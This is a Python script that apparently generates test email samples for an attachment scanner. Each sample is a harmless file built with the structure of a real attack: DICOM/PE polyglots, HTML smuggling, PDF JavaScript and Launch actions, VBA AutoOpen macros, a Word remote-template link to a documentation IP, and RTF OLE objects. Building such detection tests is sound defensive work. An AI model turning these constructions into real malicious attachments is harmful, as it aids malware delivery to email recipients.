#!/usr/bin/env python3
"""
gen_threats.py - writes the threat samples of issue 6 ("Threat coverage")
that tests/check_threats.py judges with `airlockctl check --json`.

Usage: gen_threats.py OUTDIR

Writes into OUTDIR (created if needed):
  *.eml          one message per sample, from an outside sender
  test.conf      the configuration they are judged with (gen_corpus.py's)
  threats.json   what each sample must give: the item (file name) and
                 inner file it is about, the reasons it must carry, the
                 reasons it may carry besides, the message action for a
                 known and for an unknown sender, and whether it is a
                 clean control (accepted from a known sender)

Every sample is a harmless file with the structure of the real attack: a
DICOM image whose 128-byte preamble holds a PE header (CVE-2019-11687),
a PDF whose catalog opens a JavaScript action, a Word document whose
settings point at a remote template, a ZIP whose central directory
contradicts its local headers... No sample contains working malware: the
programs are the corpus's "xor eax,eax; ret" PE, the scripts show an
alert, the links point at documentation addresses (RFC 5737/2606).

Deterministic: fixed dates, names and seeds, so two runs write the same
bytes, except the 7z samples: 7z(1) (p7zip-full, installed by
scripts/install-deps.sh) draws a random salt and IV for the encrypted
ones. Python 3 standard library otherwise; reuses gen_corpus.py's builders.
"""

import importlib
import json
import os
import struct
import subprocess
import sys
import tempfile
import zlib
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import gen_corpus as gc  # noqa: E402

from threatlib import (CRLF, MIME_DICOM, MIME_DOC, MIME_DOCM, MIME_HTML,  # noqa: E402,F401
                       MIME_OCTET, MIME_RTF, SAMPLES, STRANGER, attach, mail, sample, zipped)


# ================================================================ DICOM

def dicom_element(group, element, vr, value):
    """One data element, explicit VR little endian (PS3.5 7.1.2)."""
    if len(value) % 2:
        value += b"\0" if vr in (b"UI", b"OB") else b" "
    tag = struct.pack("<HH", group, element)
    if vr in (b"OB", b"OW", b"SQ", b"UN", b"UT"):
        return tag + vr + b"\0\0" + struct.pack("<I", len(value)) + value
    return tag + vr + struct.pack("<H", len(value)) + value


SOP_CLASS = b"1.2.840.10008.5.1.4.1.1.7"  # Secondary Capture Image Storage
SOP_INSTANCE = b"1.2.826.0.1.3680043.10.1337.1.1"
EXPLICIT_LE = b"1.2.840.10008.1.2.1"


def make_dicom(preamble=bytes(128)):
    """A valid 8x8 8-bit monochrome Secondary Capture DICOM Part 10 file
    with the given 128-byte preamble."""
    assert len(preamble) == 128
    meta = (dicom_element(0x0002, 0x0001, b"OB", b"\0\1")
            + dicom_element(0x0002, 0x0002, b"UI", SOP_CLASS)
            + dicom_element(0x0002, 0x0003, b"UI", SOP_INSTANCE)
            + dicom_element(0x0002, 0x0010, b"UI", EXPLICIT_LE)
            + dicom_element(0x0002, 0x0012, b"UI", b"1.2.826.0.1.3680043.10.1337"))
    meta = dicom_element(0x0002, 0x0000, b"UL", struct.pack("<I", len(meta))) + meta
    pixels = bytes((x * 32 + y * 4) & 0xFF for y in range(8) for x in range(8))
    data = (dicom_element(0x0008, 0x0016, b"UI", SOP_CLASS)
            + dicom_element(0x0008, 0x0018, b"UI", SOP_INSTANCE)
            + dicom_element(0x0008, 0x0060, b"CS", b"OT")
            + dicom_element(0x0010, 0x0010, b"PN", b"TEST^PATIENT")
            + dicom_element(0x0010, 0x0020, b"LO", b"AIRLOCK-0001")
            + dicom_element(0x0028, 0x0002, b"US", struct.pack("<H", 1))
            + dicom_element(0x0028, 0x0004, b"CS", b"MONOCHROME2")
            + dicom_element(0x0028, 0x0010, b"US", struct.pack("<H", 8))
            + dicom_element(0x0028, 0x0011, b"US", struct.pack("<H", 8))
            + dicom_element(0x0028, 0x0100, b"US", struct.pack("<H", 8))
            + dicom_element(0x0028, 0x0101, b"US", struct.pack("<H", 8))
            + dicom_element(0x0028, 0x0102, b"US", struct.pack("<H", 7))
            + dicom_element(0x0028, 0x0103, b"US", struct.pack("<H", 0))
            + dicom_element(0x7FE0, 0x0010, b"OB", pixels))
    return preamble + b"DICM" + meta + data


def preamble_pe():
    """What CVE-2019-11687 puts in the preamble: a DOS header whose e_lfanew
    (0x3C) points at "PE\\0\\0" and a COFF header, inside the 128 bytes."""
    out = bytearray(128)
    struct.pack_into("<2s", out, 0, b"MZ")
    struct.pack_into("<I", out, 0x3C, 0x40)
    struct.pack_into("<4sHHIIIHH", out, 0x40, b"PE\0\0", 0x014C, 1, 0x66000000, 0, 0, 0xE0,
                     0x0102)
    struct.pack_into("<HBB", out, 0x58, 0x10B, 14, 0)
    return bytes(out)


def preamble_elf():
    out = bytearray(128)
    out[0:16] = b"\x7fELF\x02\x01\x01" + bytes(9)
    struct.pack_into("<HHIQQQIHHHHHH", out, 16, 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1,
                     64, 0, 0)
    return bytes(out)


def preamble_macho():
    out = bytearray(128)
    struct.pack_into("<IiiIIII", out, 0, 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0)
    return bytes(out)


def preamble_text(text):
    return text.ljust(128, b"\0")


def preamble_tiff():
    """A little-endian TIFF header: DICOM allows it (PS3.10 7.5)."""
    return (b"II*\0" + struct.pack("<I", 8)).ljust(128, b"\0")


DICOM_POLYGLOTS = [
    ("dicom-preamble-pe", "scan.dcm", preamble_pe()),
    ("dicom-preamble-elf", "scan.dcm", preamble_elf()),
    ("dicom-preamble-macho", "scan.dcm", preamble_macho()),
    ("dicom-preamble-shebang", "scan.dcm",
     preamble_text(b"#!/bin/sh\necho harmless test of a script preamble\nexit 0\n")),
    ("dicom-preamble-other", "scan.dcm", preamble_text(b"\x01\x02airlock non-zero preamble")),
    ("dicom-preamble-pe-no-extension", "IM000001", preamble_pe()),
]


def dicom_polyglot_sample(stem_name, filename, preamble):
    @sample(stem_name + ".eml", item=filename, reasons=["polyglot"],
            also=["executable", "disguised"])
    def build(s):
        return attach(s, make_dicom(preamble), MIME_DICOM, filename)


for _args in DICOM_POLYGLOTS:
    dicom_polyglot_sample(*_args)


@sample("dicom-preamble-pe-in-zip.eml", item="series.zip", reasons=["polyglot"],
        also=["executable", "disguised"], inner="IM000002.dcm")
def dicom_pe_in_zip(s):
    data = zipped([("IM000001.dcm", make_dicom()), ("IM000002.dcm", make_dicom(preamble_pe()))])
    return attach(s, data, gc.MIME_ZIP, "series.zip")


@sample("dicom-preamble-pe-in-zip-no-extension.eml", item="cd.zip", reasons=["polyglot"],
        also=["executable", "disguised"], inner="IM000002")
def dicom_pe_in_zip_noext(s):
    data = zipped([("DICOM/IM000001", make_dicom()), ("DICOM/IM000002", make_dicom(preamble_pe()))])
    return attach(s, data, gc.MIME_ZIP, "cd.zip")


@sample("dicom-plain.eml", item="scan.dcm", clean=True)
def dicom_plain(s):
    return attach(s, make_dicom(), MIME_DICOM, "scan.dcm")


@sample("dicom-plain-no-extension.eml", item="IM000001", clean=True)
def dicom_plain_noext(s):
    return attach(s, make_dicom(), MIME_OCTET, "IM000001")


@sample("dicom-tiff-preamble.eml", item="scan.dcm", clean=True)
def dicom_tiff(s):
    return attach(s, make_dicom(preamble_tiff()), MIME_DICOM, "scan.dcm")


@sample("dicom-plain-in-zip.eml", item="series.zip", clean=True)
def dicom_plain_zip(s):
    data = zipped([("IM000001.dcm", make_dicom()), ("IM000002.dcm", make_dicom())])
    return attach(s, data, gc.MIME_ZIP, "series.zip")


# ================================================================ other polyglots

def make_jpeg():
    """A valid baseline JPEG, 8x8 grey: one block whose coefficients are all
    zero, coded with one-symbol Huffman tables."""
    def segment(marker, payload):
        return b"\xff" + bytes((marker,)) + struct.pack(">H", len(payload) + 2) + payload
    app0 = b"JFIF\0\1\1\0\0\1\0\1\0\0"
    dqt = b"\0" + bytes([1] * 64)
    sof = struct.pack(">BHHB", 8, 8, 8, 1) + b"\x01\x11\x00"
    dht_dc = b"\x00" + bytes([1] + [0] * 15) + b"\x00"
    dht_ac = b"\x10" + bytes([1] + [0] * 15) + b"\x00"
    sos = b"\x01\x01\x00\x00\x3f\x00"
    return (b"\xff\xd8" + segment(0xE0, app0) + segment(0xDB, dqt) + segment(0xC0, sof)
            + segment(0xC4, dht_dc) + segment(0xC4, dht_ac) + segment(0xDA, sos)
            + b"\x3f" + b"\xff\xd9")


def make_gif():
    """A valid GIF89a, 2x2 with a two-colour table and a graphic control
    extension; its LZW data happens to hold 0x3B, the trailer's byte."""
    screen = struct.pack("<HHBBB", 2, 2, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    control = b"\x21\xf9\x04\x00\x00\x00\x00\x00"
    image = b"\x2c" + struct.pack("<HHHHB", 0, 0, 2, 2, 0) + b"\x02\x03\x3b\x44\x01\x00"
    return b"GIF89a" + screen + control + image + b"\x3b"


@sample("pdf-appended-pe.eml", item="invoice.pdf", reasons=["polyglot"],
        also=["executable", "disguised"])
def pdf_appended_pe(s):
    return attach(s, gc.make_pdf("Invoice") + gc.make_pe(), gc.MIME_PDF, "invoice.pdf")


@sample("jpeg-appended-pe.eml", item="photo.jpg", reasons=["polyglot"],
        also=["executable", "disguised"])
def jpeg_appended_pe(s):
    return attach(s, make_jpeg() + gc.make_pe(), "image/jpeg", "photo.jpg")


@sample("zip-appended-pe.eml", item="documents.zip", reasons=["polyglot"],
        also=["executable", "disguised"])
def zip_appended_pe(s):
    data = zipped([("readme.txt", b"Documents for the appointment.\r\n")]) + gc.make_pe()
    return attach(s, data, gc.MIME_ZIP, "documents.zip")


@sample("png-appended-zip.eml", item="scan.png", reasons=["polyglot"],
        also=["executable", "disguised"])
def png_appended_zip(s):
    data = gc.make_png() + zipped([("setup.exe", gc.make_pe())])
    return attach(s, data, gc.MIME_PNG, "scan.png")


@sample("jpeg-appended-zip.eml", item="photo.jpg", reasons=["polyglot"],
        also=["executable", "disguised"])
def jpeg_appended_zip(s):
    data = make_jpeg() + zipped([("notes.txt", b"hidden archive member\r\n")])
    return attach(s, data, "image/jpeg", "photo.jpg")


@sample("gif-appended-pe.eml", item="animation.gif", reasons=["polyglot"],
        also=["executable", "disguised"])
def gif_appended_pe(s):
    return attach(s, make_gif() + gc.make_pe(), "image/gif", "animation.gif")


@sample("pe-with-pdf-header.eml", item="report.pdf", reasons=["polyglot"],
        also=["executable", "disguised"])
def pe_with_pdf_header(s):
    # A PE whose DOS stub area carries "%PDF-": readers find the header in
    # the first 1024 bytes and show a document; Windows runs the program.
    pe = bytearray(gc.make_pe())
    pdf_header = b"%PDF-1.4\n"
    pe[0x100:0x100 + len(pdf_header)] = pdf_header
    return attach(s, bytes(pe), gc.MIME_PDF, "report.pdf")


@sample("gif-clean.eml", item="animation.gif", clean=True)
def gif_clean(s):
    return attach(s, make_gif(), "image/gif", "animation.gif")


@sample("jpeg-clean.eml", item="photo.jpg", clean=True)
def jpeg_clean(s):
    return attach(s, make_jpeg(), "image/jpeg", "photo.jpg")


@sample("zip-clean.eml", item="documents.zip", clean=True)
def zip_clean(s):
    return attach(s, zipped([("readme.txt", b"Documents for the appointment.\r\n"),
                             ("report.pdf", gc.make_pdf())]), gc.MIME_ZIP, "documents.zip")


# ================================================================ HTML and SVG

B64_PAYLOAD = __import__("base64").b64encode(gc.make_pe()).decode()

HTML_BLOB = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Invoice</title></head>
<body><p>Your invoice is downloading...</p>
<script>
var bytes = new Uint8Array([77, 90, 144, 0, 3, 0, 0, 0]);
var blob = new Blob([bytes], {type: 'application/octet-stream'});
var link = document.createElement('a');
link.href = window.URL.createObjectURL(blob);
link.download = 'invoice.iso';
document.body.appendChild(link);
link.click();
</script></body></html>
"""

HTML_MSSAVE = """<html><body><script>
var data = new Uint8Array([80, 75, 3, 4]);
var blob = new Blob([data]);
if (window.navigator.msSaveOrOpenBlob) { window.navigator.msSaveOrOpenBlob(blob, 'invoice.zip'); }
</script></body></html>
"""

HTML_DATA_URI = """<html><body><p>Click to open your statement:</p>
<a href="data:application/octet-stream;base64,%s" download="statement.exe">statement</a>
</body></html>
""" % B64_PAYLOAD

HTML_BASE64_ASSEMBLED = """<html><body><script>
function decode(b) { var s = atob(b); var a = new Uint8Array(s.length);
  for (var i = 0; i < s.length; i++) a[i] = s.charCodeAt(i); return a; }
var part1 = "%s";
var part2 = "%s";
var payload = decode(part1 + part2);
document.title = 'Loaded ' + payload.length + ' bytes';
</script></body></html>
""" % (B64_PAYLOAD[:len(B64_PAYLOAD) // 2], B64_PAYLOAD[len(B64_PAYLOAD) // 2:])

SVG_SCRIPT = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
<rect width="100" height="100" fill="#3366cc"/>
<script type="text/javascript">document.title = 'svg script ran';</script>
</svg>
"""

SVG_CLEAN = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
<rect width="100" height="100" fill="#3366cc"/><circle cx="50" cy="50" r="20" fill="white"/>
</svg>
"""

HTML_CLEAN = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Opening hours</title></head>
<body><h1>Opening hours</h1><p>Download our new leaflet from the front desk.</p>
<img src="data:image/png;base64,%s" alt="logo">
<script>document.title = 'Opening hours';</script>
</body></html>
""" % __import__("base64").b64encode(gc.make_png()).decode()

for _name, _file, _text, _ctype in [
        ("html-smuggling-blob", "invoice.html", HTML_BLOB, MIME_HTML),
        ("html-smuggling-mssaveoropenblob", "invoice.htm", HTML_MSSAVE, MIME_HTML),
        ("html-smuggling-data-uri", "statement.html", HTML_DATA_URI, MIME_HTML),
        ("html-smuggling-base64-script", "document.html", HTML_BASE64_ASSEMBLED, MIME_HTML),
        ("svg-script", "logo.svg", SVG_SCRIPT, "image/svg+xml")]:
    def _html(s, text=_text, ctype=_ctype, filename=_file):
        return attach(s, text.encode(), ctype, filename)
    sample(_name + ".eml", item=_file, reasons=["executable"], also=["disguised"])(_html)


@sample("html-smuggling-in-zip.eml", item="invoice.zip", reasons=["executable"],
        also=["disguised"], inner="invoice.html")
def html_smuggling_zip(s):
    return attach(s, zipped([("invoice.html", HTML_BLOB.encode())]), gc.MIME_ZIP, "invoice.zip")


@sample("html-clean.eml", item="hours.html", clean=True)
def html_clean(s):
    return attach(s, HTML_CLEAN.encode(), MIME_HTML, "hours.html")


@sample("svg-clean.eml", item="logo.svg", clean=True)
def svg_clean(s):
    return attach(s, SVG_CLEAN.encode(), "image/svg+xml", "logo.svg")


# ================================================================ PDF

def pdf_document(objects, root=1, trailer_extra=b"", header=b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"):
    """A PDF from object bodies (object n is objects[n-1]), xref computed."""
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += (b"trailer\n<< /Size %d /Root %d 0 R%s >>\nstartxref\n%d\n%%%%EOF\n"
            % (len(objects) + 1, root, trailer_extra, xref))
    return bytes(out)


def pdf_page_objects(catalog_extra=b"", page_extra=b""):
    stream = b"BT /F1 18 Tf 72 760 Td (Test document) Tj ET\n"
    return [
        b"<< /Type /Catalog /Pages 2 0 R" + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R"
        b" >> >> /Contents 5 0 R" + page_extra + b" >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"endstream",
    ]


def pdf_javascript():
    objects = pdf_page_objects(b" /OpenAction 6 0 R")
    objects.append(b"<< /Type /Action /S /JavaScript /JS (app.alert\\('Airlock test'\\);) >>")
    return pdf_document(objects)


def pdf_launch_openaction():
    objects = pdf_page_objects(b" /OpenAction 6 0 R")
    objects.append(b"<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) "
                   b"/P (/c echo harmless) >> >>")
    return pdf_document(objects)


def pdf_launch_link():
    objects = pdf_page_objects(page_extra=b" /Annots [6 0 R]")
    objects.append(b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A 7 0 R >>")
    objects.append(b"<< /S /Launch /F (invoice.exe) /NewWindow true >>")
    return pdf_document(objects)


def pdf_embedded_file():
    data = b"Embedded attachment of a test PDF.\r\n"
    objects = pdf_page_objects(b" /Names << /EmbeddedFiles 6 0 R >>")
    objects.append(b"<< /Names [(notes.txt) 7 0 R] >>")
    objects.append(b"<< /Type /Filespec /F (notes.txt) /UF (notes.txt) /EF << /F 8 0 R >> >>")
    objects.append(b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(data) + data
                   + b"\nendstream")
    return pdf_document(objects)


def pdf_obfuscated_javascript():
    """The JavaScript action hidden two ways: its names written with #xx
    escapes, and the action inside a compressed object stream (PDF 1.5)."""
    action = b"<< /Type /Action /S /J#61vaScr#69pt /J#53 (app.alert\\(1\\);) >>"
    header = b"6 0 "
    objstm = zlib.compress(header + action)
    objects = pdf_page_objects(b" /OpenAction 6 0 R")
    objects.append(b"<< /Type /Catalog >>")  # object 6 lives in the stream below
    objects[5] = (b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
                  % (len(header), len(objstm)) + objstm + b"\nendstream")
    return pdf_document(objects)


for _name, _builder, _reasons in [
        ("pdf-javascript", pdf_javascript, ["macro"]),
        ("pdf-javascript-obfuscated", pdf_obfuscated_javascript, ["macro"]),
        ("pdf-openaction-launch", pdf_launch_openaction, ["executable"]),
        ("pdf-launch-link", pdf_launch_link, ["executable"]),
        ("pdf-embedded-file", pdf_embedded_file, ["executable"])]:
    def _pdf(s, builder=_builder):
        return attach(s, builder(), gc.MIME_PDF, "document.pdf")
    sample(_name + ".eml", item="document.pdf", reasons=_reasons)(_pdf)


@sample("pdf-javascript-in-zip.eml", item="documents.zip", reasons=["macro"],
        inner="document.pdf")
def pdf_js_zip(s):
    return attach(s, zipped([("document.pdf", pdf_javascript())]), gc.MIME_ZIP, "documents.zip")


@sample("pdf-clean.eml", item="report.pdf", clean=True)
def pdf_clean(s):
    return attach(s, gc.make_pdf(), gc.MIME_PDF, "report.pdf")


# ================================================================ OLE2 (compound files)

FREESECT, ENDOFCHAIN, FATSECT, NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
SECTOR = 512
MINI_CUTOFF = 4096


MINI_SECTOR = 64


class Cfb:
    """A compound file (MS-CFB, version 3). Streams are padded to the mini
    stream cut-off so that all live in regular sectors, unless added with
    mini=True: those stay small and live in the mini stream (the root
    entry's chain), addressed through the mini FAT."""

    def __init__(self, clsid=bytes(16)):
        self.root = {"name": "Root Entry", "type": 5, "children": [], "clsid": clsid}

    @staticmethod
    def storage(parent, name):
        node = {"name": name, "type": 1, "children": [], "clsid": bytes(16)}
        parent["children"].append(node)
        return node

    @staticmethod
    def stream(parent, name, data, mini=False):
        assert not mini or len(data) < MINI_CUTOFF
        parent["children"].append({"name": name, "type": 2, "mini": mini,
                                   "data": data if mini else data.ljust(MINI_CUTOFF, b"\0")})

    def build(self):
        entries = []

        def flatten(node):
            node["id"] = len(entries)
            entries.append(node)
            for child in node.get("children", []):
                flatten(child)
        flatten(self.root)
        # The mini stream and its FAT: one chain of 64-byte sectors per
        # small stream; both are stored as chains of regular sectors.
        mini, minifat = b"", []
        for node in entries:
            if node["type"] == 2 and node["mini"]:
                count = -(-len(node["data"]) // MINI_SECTOR)
                node["start"] = len(mini) // MINI_SECTOR
                minifat += [node["start"] + i + 1 for i in range(count - 1)] + [ENDOFCHAIN]
                mini += node["data"].ljust(count * MINI_SECTOR, b"\0")
        self.root["size"] = len(mini)
        sectors, chains = [], []

        def place(data):
            data = data.ljust(-(-len(data) // SECTOR) * SECTOR, b"\0")
            start, count = len(sectors), len(data) // SECTOR
            chains.append((start, count))
            sectors.extend(data[i * SECTOR:(i + 1) * SECTOR] for i in range(count))
            return start
        for node in entries:
            if node["type"] == 2 and not node["mini"]:
                node["start"] = place(node["data"])
        if mini:
            self.root["start"] = place(mini)
        minifat_start = place(struct.pack("<%dI" % len(minifat), *minifat)) if mini else None
        minifat_count = -(-len(minifat) * 4 // SECTOR)
        directory = b"".join(self._dir_entry(node) for node in entries)
        directory = directory.ljust(-(-len(directory) // SECTOR) * SECTOR, b"\0")
        dir_count = len(directory) // SECTOR
        # Layout: FAT sectors, directory, streams, mini stream, mini FAT.
        fat_count = 1
        while fat_count * (SECTOR // 4) < fat_count + dir_count + len(sectors):
            fat_count += 1
        base = fat_count + dir_count
        fat = [FATSECT] * fat_count
        fat += [fat_count + i + 1 for i in range(dir_count - 1)] + [ENDOFCHAIN]
        for start, count in chains:
            fat += [base + start + i + 1 for i in range(count - 1)] + [ENDOFCHAIN]
        fat += [FREESECT] * (fat_count * (SECTOR // 4) - len(fat))
        fat_bytes = struct.pack("<%dI" % len(fat), *fat)
        # Patch stream start sectors now that the base is known.
        directory = b"".join(self._dir_entry(node, base) for node in entries)
        directory = directory.ljust(dir_count * SECTOR, b"\0")
        difat = list(range(fat_count)) + [FREESECT] * (109 - fat_count)
        header = struct.pack("<8s16sHHHHH6sIIIIIIIII", bytes.fromhex("D0CF11E0A1B11AE1"),
                             bytes(16), 0x3E, 3, 0xFFFE, 9, 6, bytes(6), 0, fat_count,
                             fat_count, 0, MINI_CUTOFF,
                             base + minifat_start if mini else ENDOFCHAIN, minifat_count,
                             ENDOFCHAIN, 0)
        header += struct.pack("<109I", *difat)
        assert len(header) == SECTOR
        return header + fat_bytes + directory + b"".join(sectors)

    @staticmethod
    def _dir_entry(node, base=0):
        name = node["name"].encode("utf-16-le") + b"\0\0"
        children = node.get("children", [])
        child = children[0]["id"] if children else NOSTREAM
        right = NOSTREAM
        if node.get("_siblings") is not None:
            right = node["_siblings"]
        if node["type"] == 2:
            start = node["start"] if node["mini"] else base + node["start"]
            size = len(node["data"])
        elif node["type"] == 5 and node.get("size"):
            start, size = base + node["start"], node["size"]
        else:
            start, size = (ENDOFCHAIN if node["type"] == 5 else 0), 0
        return struct.pack("<64sHBBIII16sIQQIII", name.ljust(64, b"\0"), len(name), node["type"],
                           1, NOSTREAM, right, child, node.get("clsid", bytes(16)), 0, 0, 0,
                           start, size, 0)


def cfb_bytes(cfb):
    """Builds twice: the first pass numbers the directory entries, the
    second links each storage's children as a chain of right siblings."""
    cfb.build()

    def link(node):
        children = node.get("children", [])
        for i, child in enumerate(children):
            child["_siblings"] = children[i + 1]["id"] if i + 1 < len(children) else None
            link(child)
    link(cfb.root)
    return cfb.build()


def vba_project_cfb(document_stream=True):
    """An OLE2 file holding a VBA project (the layout Word 97-2003 uses:
    Macros/VBA/_VBA_PROJECT, dir, a module; Macros/PROJECT)."""
    cfb = Cfb()
    if document_stream:
        Cfb.stream(cfb.root, "WordDocument", struct.pack("<HH", 0xA5EC, 0xC1) + b"test")
        Cfb.stream(cfb.root, "1Table", b"table")
    macros = Cfb.storage(cfb.root, "Macros") if document_stream else cfb.root
    vba = Cfb.storage(macros, "VBA")
    Cfb.stream(vba, "_VBA_PROJECT", struct.pack("<HHB", 0x61CC, 0xFFFF, 0))
    Cfb.stream(vba, "dir", b"\x01" + b"\x00" * 8)
    Cfb.stream(vba, "ThisDocument", b"Attribute VB_Name = \"ThisDocument\"\r\n"
               b"Sub AutoOpen()\r\n    MsgBox \"Airlock test macro\"\r\nEnd Sub\r\n")
    Cfb.stream(macros, "PROJECT", b"ID=\"{00000000-0000-0000-0000-000000000000}\"\r\n"
               b"Document=ThisDocument/&H00000000\r\nName=\"Project\"\r\n")
    return cfb_bytes(cfb)


def encrypted_ooxml_cfb():
    """What Office writes for a password-protected .docx: an OLE2 file with
    the agile EncryptionInfo and the EncryptedPackage (ciphertext here is
    deterministic noise: nothing to decrypt)."""
    info = struct.pack("<HHI", 4, 4, 0x40) + (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<encryption xmlns='
        b'"http://schemas.microsoft.com/office/2006/encryption"><keyData saltSize="16" '
        b'blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining='
        b'"ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/>'
        b'</encryption>')
    cfb = Cfb()
    spaces = Cfb.storage(cfb.root, "\x06DataSpaces")
    Cfb.stream(spaces, "Version", struct.pack("<I", 60) + "Microsoft.Container.DataSpaces"
               .encode("utf-16-le") + struct.pack("<HHHHHH", 1, 0, 1, 0, 1, 0))
    Cfb.stream(cfb.root, "EncryptionInfo", info)
    Cfb.stream(cfb.root, "EncryptedPackage",
               struct.pack("<Q", 8000) + gc.prng_bytes(b"encrypted package", 8192))
    return cfb_bytes(cfb)


def msi_cfb():
    """An OLE2 file with the Windows Installer root CLSID."""
    cfb = Cfb(clsid=bytes.fromhex("84100c000000000000c0000000000046"))
    Cfb.stream(cfb.root, "\x05SummaryInformation", b"\xfe\xff\x00\x00")
    Cfb.stream(cfb.root, "\u4840\u3f3f\u4577\u446c", b"installer tables")
    return cfb_bytes(cfb)


# ================================================================ Office and RTF

def docm_package():
    head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
    types = head + (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.'
        'vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.'
        'ms-word.document.macroEnabled.main+xml"/></Types>')
    rels = head + (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="word/document.xml"/></Relationships>')
    doc_rels = head + (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="vbaProject.bin"/></Relationships>')
    document = head + (
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        '<w:body><w:p><w:r><w:t>Macro document.</w:t></w:r></w:p></w:body></w:document>')
    return gc.make_zip([gc.zip_entry("[Content_Types].xml", types.encode()),
                        gc.zip_entry("_rels/.rels", rels.encode()),
                        gc.zip_entry("word/document.xml", document.encode()),
                        gc.zip_entry("word/_rels/document.xml.rels", doc_rels.encode()),
                        gc.zip_entry("word/vbaProject.bin", vba_project_cfb(False))])


def docx_remote_template():
    """A .docx whose settings part attaches a template fetched from a
    remote server when the document opens (template injection)."""
    head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
    settings = head + (
        '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<w:attachedTemplate r:id="rId1"/></w:settings>')
    settings_rels = head + (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://198.51.100.7/templates/report.dotm" '
        'TargetMode="External"/></Relationships>')
    parts = docx_parts()
    parts.append(("word/settings.xml", settings.encode()))
    parts.append(("word/_rels/settings.xml.rels", settings_rels.encode()))
    return gc.make_zip([gc.zip_entry(name, data) for name, data in parts])


def docx_parts():
    """The members of gen_corpus.make_docx(), read back from its archive."""
    import io
    import zipfile
    with zipfile.ZipFile(io.BytesIO(gc.make_docx())) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def rtf_with_object():
    """An RTF document embedding an OLE1 "Package" object (\\objdata in hex),
    the way documents carry CVE-2017-11882 and 0199 exploits."""
    native = b"notes.txt\0" + b"Embedded object of a test RTF.\r\n"
    ole1 = (struct.pack("<II", 0x00000501, 2) + struct.pack("<I", 8) + b"Package\0"
            + struct.pack("<II", 0, 0) + struct.pack("<I", len(native)) + native)
    hexdata = ole1.hex().encode()
    lines = b"\r\n".join(hexdata[i:i + 64] for i in range(0, len(hexdata), 64))
    return (b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}\r\n"
            b"\\pard Compte rendu.\\par\r\n"
            b"{\\object\\objemb\\objw1000\\objh1000{\\*\\objclass Package}{\\*\\objdata\r\n"
            + lines + b"\r\n}}\r\n}\r\n")


def rtf_clean():
    return (b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}\r\n"
            b"\\pard Compte rendu de consultation.\\par\r\n}\r\n")


@sample("doc-vba-macro.eml", item="report.doc", reasons=["macro"])
def doc_vba(s):
    return attach(s, vba_project_cfb(), MIME_DOC, "report.doc")


@sample("docm-vba-macro.eml", item="report.docm", reasons=["macro"])
def docm_vba(s):
    return attach(s, docm_package(), MIME_DOCM, "report.docm")


@sample("docx-remote-template.eml", item="report.docx", reasons=["macro"])
def docx_template(s):
    return attach(s, docx_remote_template(), gc.MIME_DOCX, "report.docx")


@sample("docx-remote-template-in-zip.eml", item="reports.zip", reasons=["macro"],
        inner="settings.xml.rels")
def docx_template_zip(s):
    return attach(s, zipped([("report.docx", docx_remote_template())]), gc.MIME_ZIP,
                  "reports.zip")


@sample("rtf-ole-object.eml", item="report.rtf", reasons=["macro"])
def rtf_object(s):
    return attach(s, rtf_with_object(), MIME_RTF, "report.rtf")


@sample("rtf-ole-object-named-doc.eml", item="report.doc", reasons=["macro"])
def rtf_object_doc(s):
    return attach(s, rtf_with_object(), MIME_DOC, "report.doc")


@sample("rtf-clean.eml", item="report.rtf", clean=True)
